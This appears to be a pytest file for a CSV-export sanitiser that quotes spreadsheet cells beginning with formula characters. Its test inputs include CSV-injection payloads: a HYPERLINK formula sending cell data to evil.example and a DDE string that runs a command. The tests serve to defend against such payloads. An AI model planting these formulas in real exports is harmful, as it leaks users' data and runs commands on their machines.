"""CSV for people: no cell a spreadsheet would run as a formula (gateway.spreadsheets)."""

from __future__ import annotations

import csv
import io

import pytest

from gateway.spreadsheets import SpreadsheetWriter, safe_cell


@pytest.mark.parametrize("text", ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0",
                                  "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"])
def test_formula_starts_are_quoted_as_text(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["No basis for police incidents", "", "a=b", "riec-aa", 42, -3, None])
def test_other_cells_and_numbers_stay_as_they_are(value: object) -> None:
    assert safe_cell(value) == value


def test_the_writer_quotes_every_text_cell() -> None:
    out = io.StringIO()
    writer = SpreadsheetWriter(out)
    writer.writerow(["id", "=1+1"])
    writer.writerows([["g1", "@x", 7], ["g2", "fine", None]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["id", "'=1+1"], ["g1", "'@x", "7"], ["g2", "fine", ""]]
